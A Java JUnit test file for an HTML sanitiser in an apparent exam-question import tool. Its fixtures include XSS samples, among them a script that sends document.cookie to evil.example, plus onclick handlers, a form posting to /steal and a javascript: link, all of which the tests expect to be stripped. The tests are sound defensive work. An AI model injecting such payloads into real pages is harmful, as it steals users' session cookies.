package kz.emtihan.bank.imports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

/** 5.16: what a student sees cannot run code or be restyled by an imported file. */
class HtmlTextTest {

    private static HtmlText.Safe html(String raw) {
        return HtmlText.of(new RichText(raw, RichText.Format.HTML));
    }

    @Test
    void scriptsAreRemovedWithTheirCode() {
        String safe =
                html("<p>Before</p><script>fetch('https://evil.example/?' + document.cookie)</script><p>After</p>")
                        .html();
        assertEquals("<p>Before</p><p>After</p>", safe);
    }

    @Test
    void eventAttributesStylesAndClassesAreRemoved() {
        String safe =
                html("<p onclick=\"steal()\" style=\"color:red\" class=\"x\">Hi <b onmouseover=\"y()\">there</b></p>")
                        .html();
        assertEquals("<p>Hi <b>there</b></p>", safe);
    }

    @Test
    void iframesObjectsFormsAndLinksAreRemoved() {
        String safe = html("<iframe src=\"https://evil.example\">x</iframe><object data=\"a.swf\"></object>"
                        + "<form action=\"/steal\"><input name=\"p\"></form><a href=\"javascript:alert(1)\">link text</a>")
                .html();
        assertFalse(safe.contains("<iframe"), safe);
        assertFalse(safe.contains("<object"), safe);
        assertFalse(safe.contains("<form"), safe);
        assertFalse(safe.contains("<input"), safe);
        assertFalse(safe.contains("javascript"), safe);
        assertTrue(safe.contains("link text"), safe);
    }

    @Test
    void formattingSubSupListsTablesAndBreaksAreKept() {
        String raw = "<p><strong>H</strong><sub>2</sub>O, x<sup>2</sup>, <em>i</em>, <u>u</u><br>next</p>"
                + "<ol><li>one</li></ol><ul><li>two</li></ul>"
                + "<table><tbody><tr><th colspan=\"2\">h</th></tr><tr><td rowspan=\"1\">a</td><td>b</td></tr></tbody></table>";
        assertEquals(raw, html(raw).html());
    }

    @Test
    void entitiesStayEscapedText() {
        assertEquals(
                "<p>x &lt; 5 &amp;&amp; y &gt; 2&nbsp;− ok</p>",
                html("<p>x &lt; 5 &amp;&amp; y &gt; 2&nbsp;&minus; ok</p>").html());
    }

    @Test
    void pluginFileReferencesAreReportedByDecodedNameAndRemoved() {
        HtmlText.Safe safe = html("<p>See <img src=\"@@PLUGINFILE@@/right%20triangle.png?time=1\" alt=\"t\">"
                + " and <a href=\"@@PLUGINFILE@@/notes.pdf\">the notes</a></p>");
        assertEquals(List.of("right triangle.png", "notes.pdf"), safe.files());
        assertEquals(List.of(), safe.images());
        assertFalse(safe.html().contains("PLUGINFILE"), safe.html());
        assertFalse(safe.html().contains("<img"), safe.html());
    }

    @Test
    void otherImagesAreRemovedAndReportedShortened() {
        String data = "data:image/png;base64," + "A".repeat(500);
        HtmlText.Safe safe = html("<p>x<img src=\"https://cdn.example/a.png\"><img src=\"" + data + "\"></p>");
        assertEquals("<p>x</p>", safe.html());
        assertEquals("https://cdn.example/a.png", safe.images().get(0));
        assertTrue(safe.images().get(1).length() < 100, safe.images().get(1));
    }

    @Test
    void plainAndMarkdownTextIsEscapedNeverInterpreted() {
        assertEquals(
                "&lt;b&gt;bold&lt;/b&gt; &amp; x &lt; 2<br>line two",
                HtmlText.of(new RichText("<b>bold</b> & x < 2\nline two", RichText.Format.PLAIN))
                        .html());
        assertEquals(
                "**Area** &lt;script&gt;x&lt;/script&gt;",
                HtmlText.of(new RichText("**Area** <script>x</script>", RichText.Format.MARKDOWN))
                        .html());
    }

    @Test
    void moodleAutoFormatKeepsLineBreaksAndSanitises() {
        assertEquals(
                "one<br>two <b>three</b>",
                HtmlText.of(new RichText("one\ntwo <b onclick=\"x()\">three</b>", RichText.Format.MOODLE))
                        .html());
    }

    @Test
    void textWithNothingVisibleIsBlank() {
        assertTrue(html("<p>&nbsp;</p><script>alert(1)</script>").blank());
        assertTrue(html("<p><img src=\"@@PLUGINFILE@@/a.png\"></p>").blank());
        assertFalse(html("<p>0</p>").blank());
    }

    @Test
    void plainTextCollapsesWhitespace() {
        assertEquals("a b c", HtmlText.plain("<p>a&nbsp; b</p>\n<p>c</p>"));
    }
}
